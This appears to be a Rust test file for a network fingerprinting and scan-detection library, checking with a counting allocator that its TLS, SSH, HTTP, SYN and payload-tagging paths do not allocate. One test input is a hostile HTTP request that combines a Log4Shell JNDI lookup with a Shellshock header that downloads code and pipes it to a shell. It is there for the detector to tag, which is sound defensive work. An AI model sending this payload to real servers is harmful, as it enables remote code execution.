//! Proves the parse + fingerprint paths do not touch the heap: a counting global allocator
//! (process-global, hence this file holds a single test).

use spip::proto::tls::wrap_records;
use std::alloc::{GlobalAlloc, Layout, System};
use std::sync::atomic::{AtomicUsize, Ordering};

mod support {
    pub mod hellos;
}
use support::hellos;

struct Counting;

static ALLOCS: AtomicUsize = AtomicUsize::new(0);

unsafe impl GlobalAlloc for Counting {
    unsafe fn alloc(&self, layout: Layout) -> *mut u8 {
        ALLOCS.fetch_add(1, Ordering::SeqCst);
        unsafe { System.alloc(layout) }
    }
    unsafe fn dealloc(&self, ptr: *mut u8, layout: Layout) {
        unsafe { System.dealloc(ptr, layout) }
    }
    unsafe fn realloc(&self, ptr: *mut u8, layout: Layout, new_size: usize) -> *mut u8 {
        ALLOCS.fetch_add(1, Ordering::SeqCst);
        unsafe { System.realloc(ptr, layout, new_size) }
    }
}

#[global_allocator]
static GLOBAL: Counting = Counting;

fn allocations(f: impl FnOnce()) -> usize {
    let before = ALLOCS.load(Ordering::SeqCst);
    f();
    ALLOCS.load(Ordering::SeqCst) - before
}

#[test]
fn parse_and_fingerprint_paths_do_not_allocate() {
    use spip::fingerprint;

    let msg = hellos::chrome_like_hello();
    assert!(msg.len() > 1700, "{}", msg.len());
    let whole = wrap_records(&msg, &[]);
    let split = wrap_records(&msg, &[300, 900]);
    let mut lists: Vec<&[u8]> = vec![
        b"curve25519-sha256,curve25519-sha256@libssh.org,ecdh-sha2-nistp256,ext-info-c",
        b"ssh-ed25519,rsa-sha2-512",
        b"chacha20-poly1305@openssh.com,aes128-ctr",
        b"chacha20-poly1305@openssh.com,aes128-ctr",
        b"umac-64-etm@openssh.com,hmac-sha2-256",
        b"umac-64-etm@openssh.com,hmac-sha2-256",
        b"none,zlib@openssh.com",
        b"none,zlib@openssh.com",
        b"",
        b"",
    ];
    let mut payload = vec![20u8];
    payload.extend_from_slice(&[9; 16]);
    for l in lists.drain(..) {
        payload.extend_from_slice(&(l.len() as u32).to_be_bytes());
        payload.extend_from_slice(l);
    }
    payload.extend_from_slice(&[0, 0, 0, 0, 0]);
    let pad = 8 - (payload.len() + 5) % 8 + 8;
    let mut ssh = b"SSH-2.0-OpenSSH_9.6\r\n".to_vec();
    ssh.extend_from_slice(&((1 + payload.len() + pad) as u32).to_be_bytes());
    ssh.push(pad as u8);
    ssh.extend_from_slice(&payload);
    ssh.extend(std::iter::repeat_n(0u8, pad));

    let http = b"GET /index.html?a=1 HTTP/1.1\r\nHost: example.com\r\nUser-Agent: Mozilla/5.0\r\n\
        Accept: text/html\r\nAccept-Language: en-US,en;q=0.9\r\nAccept-Encoding: gzip, br\r\n\
        Referer: https://example.com/\r\nCookie: b=2; a=1; c=3\r\nConnection: keep-alive\r\n\
        Upgrade-Insecure-Requests: 1\r\nSec-Fetch-Mode: navigate\r\n\r\n";

    // Sinks with room reserved up front, so writing the raw strings does not grow them.
    let mut sink: Vec<u8> = Vec::with_capacity(64 * 1024);

    // Warm-up (lazy statics, if any, are not per-call costs).
    let _ = fingerprint::tls_client(&whole);

    for stream in [&whole, &split] {
        let n = allocations(|| {
            let c = fingerprint::tls_client(stream).expect("hello");
            std::hint::black_box(c.ja4);
            std::hint::black_box(c.ja3);
            c.with_hello(|h| {
                std::hint::black_box(h.server_name());
                std::hint::black_box(h.alpn().count());
            });
            sink.clear();
            c.write_ja4_r(&mut sink);
            c.write_ja3_string(&mut sink);
        });
        assert_eq!(n, 0, "TLS path allocated {n} times");
    }

    let n = allocations(|| {
        let c = fingerprint::ssh_client(&ssh).expect("ssh");
        std::hint::black_box(c.hassh.expect("hassh"));
        sink.clear();
        c.write_hassh_algorithms(&mut sink);
    });
    assert_eq!(n, 0, "SSH path allocated {n} times");

    let (a, b): (std::net::IpAddr, std::net::IpAddr) = (
        "2001:db8::1".parse().unwrap(),
        "2001:db8::2".parse().unwrap(),
    );
    let n = allocations(|| {
        let id = fingerprint::community_id::community_id_v1(0, a, 1, b, 2, 6);
        std::hint::black_box(id);
    });
    assert_eq!(n, 0, "Community ID allocated {n} times");

    let n = allocations(|| {
        let spip::proto::http::Head::Complete(head) = spip::proto::http::parse_request_head(http)
        else {
            panic!("http head")
        };
        std::hint::black_box(head.headers().count());
        #[cfg(feature = "ja4plus")]
        {
            std::hint::black_box(fingerprint::ja4h::ja4h(&head));
            sink.clear();
            fingerprint::ja4h::write_ja4h_r(&head, &mut sink);
        }
    });
    assert_eq!(n, 0, "HTTP path allocated {n} times");

    // A saved SYN (curl over loopback, IPv4): facts, option text and JA4T.
    let syn: [u8; 60] = [
        0x45, 0, 0, 0x3c, 0x26, 0xfd, 0x40, 0, 0x40, 6, 0x15, 0xbd, 127, 0, 0, 1, 127, 0, 0, 1,
        0xa8, 0x86, 0x1f, 0x90, 0x4f, 0x48, 0xcb, 0x29, 0, 0, 0, 0, 0xa0, 0x02, 0xff, 0xd7, 0xfe,
        0x30, 0, 0, 2, 4, 0xff, 0xd7, 4, 2, 8, 10, 0x85, 0x94, 0xa1, 0x8d, 0, 0, 0, 0, 1, 3, 3, 10,
    ];
    let n = allocations(|| {
        let facts = spip::proto::syn::parse(&syn).expect("syn");
        std::hint::black_box(facts.options.kinds_text());
        #[cfg(feature = "ja4plus")]
        std::hint::black_box(fingerprint::ja4t::ja4t(facts.window, &facts.options));
    });
    assert_eq!(n, 0, "SYN path allocated {n} times");
    // Payload tags and the per-connection scan summary updates, once warm (the matcher built,
    // the source's slot boxed).
    use spip::scan::payload_tags::Tags;
    use spip::scan::summary::{Summaries, SummaryConfig};
    use std::time::{Duration, Instant};
    let summaries = Summaries::new(
        SummaryConfig {
            max_sources: 1024,
            interval: Duration::from_secs(60),
            scanner_ports: 25,
        },
        Instant::now(),
    );
    let src: std::net::IpAddr = "192.0.2.1".parse().unwrap();
    let attack = b"GET /${jndi:ldap://x/a} HTTP/1.1\r\nUser-Agent: () { :;}; wget x | sh\r\n\r\n";
    std::hint::black_box(Tags::of(attack));
    summaries.accepted(src, 1, None, Instant::now());
    let n = allocations(|| {
        std::hint::black_box(Tags::of(attack));
        std::hint::black_box(Tags::of(&msg));
        for port in 2..1000 {
            let now = Instant::now();
            summaries.accepted(src, port, Some("64240_2-4-8-1-3_1460_7"), now);
            summaries.shed(src, port, now);
            summaries.closed(src, 10, now);
        }
    });
    assert_eq!(n, 0, "tags and summaries allocated {n} times");
}
